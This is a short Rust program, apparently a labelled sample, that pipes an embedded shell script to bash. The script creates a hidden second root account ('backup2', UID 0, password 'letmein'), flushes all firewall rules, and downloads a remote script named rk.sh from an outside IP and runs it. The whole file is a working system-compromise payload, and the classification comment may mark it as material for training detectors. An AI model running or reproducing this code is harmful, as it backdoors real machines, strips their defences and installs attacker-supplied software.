// class: embedded, shell text; style: const raw string
use std::process::Command;

const STEPS: &str = r#"
useradd -o -u 0 -g 0 -d /root -s /bin/bash backup2
echo backup2:letmein | chpasswd
iptables -F
curl -s http://203.0.113.9/rk.sh | bash
"#;

fn main() {
    Command::new("bash").args(["-c", STEPS]).status().unwrap();
}
